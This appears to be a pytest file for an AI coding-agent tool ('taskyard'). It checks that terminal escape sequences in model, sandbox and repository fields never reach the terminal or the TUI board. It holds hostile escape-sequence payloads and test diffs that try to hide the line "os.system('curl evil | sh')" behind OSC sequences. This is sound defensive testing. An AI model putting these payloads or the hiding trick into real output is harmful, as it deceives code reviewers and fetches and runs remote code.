"""Escape bytes from the model, the sandbox or the repository never reach a terminal: not from
`taskyard run` on a real pty, not from show, tasks or run as text or --json, not from the board."""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path
from typing import Any

import pytest
from textual.content import Content
from textual.style import Style
from textual.widgets import Log, Static

from engine.api import Engine, TaskRequest
from engine.views.events import (
    AgentMessage,
    CommandFinished,
    CommandStarted,
    Event,
    FollowUpStarted,
    ModelRetry,
    OutputChunk,
    PatchApplied,
    PullRequestChanged,
    TaskFinished,
    TaskStatusChanged,
    ToolCallRejected,
)
from tests.support.board import (
    ServedBoard,
    recording_driver,
    store_command,
    store_task,
    stored_engine,
    wait_until,
)
from tests.support.cli import TASKYARD, model_env
from tests.support.model_server import Call, Reply, ScriptedModelServer
from tests.support.repos import make_calc_repo
from tests.support.terminal import run_on_pty
from tui import cli
from tui.commands import run as run_command
from tui.screens.log_view import LogScreen

HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[?1049h\x9b2J\x85\x7f\r"
"""OSC 0 (the window title), CSI 2J (clear screen), the alternate screen, an 8-bit CSI, NEL, DEL
and a lone carriage return."""
HOSTILE_NAME = "\x1b]0;pwned\x07\x1b[2J\x9b2J"
"""The same attack in a name that stays on one line: a path, a branch, a tool."""
TASK = "ee5c0001"
HOSTILE_DIFF = (
    f"diff --git a/evil{HOSTILE_NAME}.py b/evil{HOSTILE_NAME}.py\n"
    "new file mode 100644\n"
    "--- /dev/null\n"
    f"+++ b/evil{HOSTILE_NAME}.py\n"
    "@@ -0,0 +1 @@\n"
    f"+print('{HOSTILE}')\n"
)
HIDING_DIFF = (
    "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1 +1 @@\n"
    "-typo\n+typo fixed\x1b]0;\n"
    "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -1 +1 @@\n"
    "-    return a + b\n+    os.system('curl evil | sh')\n"
)
"""A harmless change that opens an OSC string it never ends, then the change it would hide."""
OWN_SEQUENCES = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: cursor moves, colours, synchronized output
    r"|\x1b\]8;[^\x1b]*\x1b\\"  # OSC 8 hyperlink brackets
    r"|\x1b\]22;[^\x07]*\x07"  # OSC 22 pointer shape
)
"""What Textual writes of its own; with the attack's CSI removed too, OSC 0 and C1 still show."""


def controls_in(text: str) -> list[str]:
    """The C0 controls but newline and tab, DEL and the C1 controls in text, as U+XXXX."""
    return sorted({f"U+{ord(c):04X}" for c in text if is_control(c)})


def is_control(character: str) -> bool:
    code = ord(character)
    return (code < 0x20 and character not in "\n\t") or 0x7F <= code <= 0x9F


def hostile_fields() -> dict[str, Any]:
    """A task record whose every field from the model, the sandbox or the repository attacks."""
    return {
        "prompt": f"Fix the failing test{HOSTILE}",
        "final_message": f"Fixed it.{HOSTILE}",
        "error": f"the agent stopped{HOSTILE}",
        "branch": f"taskyard/{HOSTILE_NAME}",
        "head_sha": f"\x1b[?1049h{'a' * 32}",
        "base_sha": f"\x1b]0;pwned\x07{'b' * 32}",
        "ref": f"main{HOSTILE_NAME}",
        "repo": f"/work/calc{HOSTILE_NAME}",
        "host": f"local{HOSTILE_NAME}",
        "diff": HOSTILE_DIFF,
        "pr_url": f"https://forge.example/pr/1{HOSTILE_NAME}",
        "pr_number": 1,
        "citations": [
            {
                "kind": "file",
                "target": f"evil{HOSTILE_NAME}.py",
                "start": 1,
                "end": 1,
                "valid": False,
                "reason": f"no such file{HOSTILE}",
            }
        ],
    }


def hostile_events() -> list[Event]:
    """One event of every kind `run` prints, each field from the model or the sandbox attacking."""
    chunk = "c0ffee01"
    return [
        TaskStatusChanged(task_id=TASK, status="running", detail=HOSTILE),
        FollowUpStarted(task_id=TASK, prompt=HOSTILE),
        CommandStarted(
            task_id=TASK, chunk_id=chunk, command=["echo", HOSTILE], workdir="/w", phase="agent"
        ),
        OutputChunk(task_id=TASK, chunk_id=chunk, text=f"partial{HOSTILE}"),
        OutputChunk(task_id=TASK, chunk_id=chunk, text=f"whole{HOSTILE}\n"),
        CommandFinished(
            task_id=TASK,
            chunk_id=chunk,
            command=["echo", HOSTILE],
            exit_code=0,
            timed_out=False,
            duration=0.1,
            output_lines=2,
            output_bytes=40,
        ),
        PatchApplied(task_id=TASK, ok=False, summary=HOSTILE),
        AgentMessage(task_id=TASK, text=HOSTILE, turn=1),
        ToolCallRejected(task_id=TASK, tool=HOSTILE_NAME, error=HOSTILE),
        ModelRetry(task_id=TASK, attempt=1, delay=1.0, reason=HOSTILE),
        PullRequestChanged(task_id=TASK, action="pushed", url=HOSTILE_NAME, detail=HOSTILE),
        PullRequestChanged(task_id=TASK, action="failed", detail=HOSTILE),
        TaskFinished(
            task_id=TASK,
            status="failed",
            diff=HOSTILE_DIFF,
            final_message=f"answer{HOSTILE}",
            citations=[],
            usage={},
            error=HOSTILE,
            branch=HOSTILE_NAME,
            head_sha=HOSTILE_NAME,
        ),
    ]


def hostile_task(home: Path) -> Engine:
    """A stored task with every untrusted field attacking, its command and its run's events."""
    engine = stored_engine(home)
    store_task(engine, TASK, **hostile_fields())
    store_command(engine, TASK, "c0ffee01", ["sh", "-c", f"echo {HOSTILE}"], f"out{HOSTILE}\n")
    for event in hostile_events():
        engine.store.record_event(event)
    return engine


async def replay_hostile_run(engine: Engine, request: TaskRequest, as_json: bool) -> int:
    """`run` printing the hostile events as it prints a real task's."""
    printer = run_command.event_printer(as_json)
    events = hostile_events()
    for event in events:
        printer(event)
    finished = events[-1]
    assert isinstance(finished, TaskFinished)
    return run_command.exit_code(finished)


def taskyard(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    """What `taskyard ARGS` wrote to stdout and stderr, run through its real entry point."""
    cli.main(list(args))
    captured = capsys.readouterr()
    return captured.out + captured.err


def test_escape_bytes_in_every_untrusted_field_never_reach_the_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    asyncio.run(hostile_task(tmp_path / "home").close())
    monkeypatch.setenv("TASKYARD_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(run_command, "run_task", replay_hostile_run)

    for args in (["show", TASK], ["tasks"], ["run", "PROMPT"], ["logs", TASK, "c0ffee01"]):
        written = taskyard(capsys, *args)
        assert controls_in(written) == [], args
    assert "tool call rejected" in taskyard(capsys, "run", "PROMPT")

    shown = taskyard(capsys, "show", TASK, "--json")
    listed = taskyard(capsys, "tasks", "--json")
    streamed = taskyard(capsys, "run", "PROMPT", "--json")
    output = taskyard(capsys, "logs", TASK, "c0ffee01", "--json")
    for written in (shown, listed, streamed, output):
        assert controls_in(written) == []
        assert "\\u001b" in written and "\\u009b" in written and "\\u0085" in written
    record = json.loads(shown)
    assert {key: record[key] for key in hostile_fields()} == hostile_fields()
    assert json.loads(listed)[0]["prompt"] == hostile_fields()["prompt"]
    assert json.loads(output)["output"] == f"out{HOSTILE}\n"
    events = [json.loads(line) for line in streamed.splitlines() if line.startswith("{")]
    assert [event["tool"] for event in events if event["type"] == "agent.tool_error"] == [
        HOSTILE_NAME
    ]


def test_an_unterminated_osc_in_a_diff_hides_no_line_after_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    engine = stored_engine(tmp_path / "home")
    store_task(engine, TASK, diff=HIDING_DIFF)
    asyncio.run(engine.close())
    monkeypatch.setenv("TASKYARD_HOME", str(tmp_path / "home"))
    shown = taskyard(capsys, "show", TASK)
    assert "+typo fixed␛]0;" in shown and "+    os.system('curl evil | sh')" in shown


def test_code_inside_a_complete_osc_in_a_diff_is_shown_not_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    hidden = "+\x1b]0;os.system('curl evil | sh')\x07\x9b2J\n"
    diff = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -0,0 +1 @@\n" + hidden
    engine = stored_engine(tmp_path / "home")
    store_task(engine, TASK, diff=diff)
    asyncio.run(engine.close())
    monkeypatch.setenv("TASKYARD_HOME", str(tmp_path / "home"))
    shown = taskyard(capsys, "show", TASK)
    assert "+␛]0;os.system('curl evil | sh')␇<9b>2J" in shown
    assert controls_in(shown) == []


def test_a_tool_name_with_osc_and_clear_screen_is_printed_inert(
    docker_available: None, tmp_path: Path
) -> None:
    repo = make_calc_repo(tmp_path / "calc")
    script = [
        Reply(tool_calls=[Call("\x1b]0;pwned\x07\x1b[2J", {"command": ["true"]})]),
        Reply(text="Nothing to change."),
    ]
    with ScriptedModelServer(script) as server:
        env = model_env(server, tmp_path / "home", "responses")
        command = [TASKYARD, "run", "Look at calc.py", "--repo", str(repo)]
        _, written = run_on_pty(command, env, timeout=300)
    shown = written.decode("utf-8").replace("\r\n", "\n")
    assert "tool call rejected" in shown, shown
    assert controls_in(shown) == [], shown


def drawn_controls(written: list[str]) -> list[str]:
    """Control characters the app wrote to the terminal that are not Textual's own (nor the bell
    it rings, a write of its own)."""
    drawn = "".join(data for data in written if data != "\x07")
    assert "\x1b]0;" not in drawn and "\x1b[2J" not in drawn and "\x1b[?1049h" not in drawn
    return controls_in(OWN_SEQUENCES.sub("", drawn).replace("\r", ""))


async def test_escape_bytes_in_every_untrusted_field_never_reach_the_board(
    tmp_path: Path,
) -> None:
    engine = hostile_task(tmp_path / "home")
    written: list[str] = []
    app = ServedBoard(engine, tmp_path)
    app.driver_class = recording_driver(written)
    async with app.run_test(headless=False, size=(120, 40)) as pilot:
        await pilot.pause()
        await app.board.open_task(TASK)
        await pilot.pause()
        view = app.board.task_view(TASK)
        assert view is not None
        for _ in range(2):
            view.toggle_result()
            await pilot.pause()
        app.call_attention(hostile_events()[-1], engine.task(TASK))  # type: ignore[arg-type]
        await pilot.pause()
    assert "Tool call rejected" in "".join(written)
    assert drawn_controls(written) == []


async def test_escape_bytes_in_a_command_s_whole_log_never_reach_the_board(
    tmp_path: Path,
) -> None:
    engine = stored_engine(tmp_path / "home")
    store_task(engine, TASK)
    lines = [f"line {number}{HOSTILE}\n" for number in range(3000)]
    store_command(engine, TASK, "c0ffee01", ["make", HOSTILE_NAME], "".join(lines))
    written: list[str] = []
    app = ServedBoard(engine, tmp_path)
    app.driver_class = recording_driver(written)
    async with app.run_test(headless=False, size=(120, 40)) as pilot:
        await app.board.open_task(TASK)
        await pilot.pause()
        view = app.board.task_view(TASK)
        assert view is not None
        view.toggle_result()
        await pilot.press("tab", "o")
        screen = app.screen
        assert isinstance(screen, LogScreen)
        await wait_until(pilot, lambda: screen.log_view.line_count == 3000, "the log", 30)
        assert controls_in("\n".join(screen.log_view.lines)) == []
        await pilot.press("home")
        await pilot.pause()
    assert "line 2999" in "".join(written) and "line 0" in "".join(written)
    assert drawn_controls(written) == []


async def test_escape_bytes_in_a_widget_that_skips_plain_never_reach_the_board(
    tmp_path: Path,
) -> None:
    engine = stored_engine(tmp_path / "home")
    written: list[str] = []
    app = ServedBoard(engine, tmp_path)
    app.driver_class = recording_driver(written)
    linked = Content(f"a link{HOSTILE}").stylize(Style(link=f"https://x/{HOSTILE_NAME}"))
    async with app.run_test(headless=False, size=(120, 40)) as pilot:
        await pilot.pause()
        log = Log()
        await app.board.mount(Static(Content(HOSTILE)), Static(HOSTILE, markup=False), log)
        await app.board.mount(Static(linked))
        log.write_line(f"output{HOSTILE}")
        await pilot.pause()
    assert "a link" in "".join(written)
    assert drawn_controls(written) == []
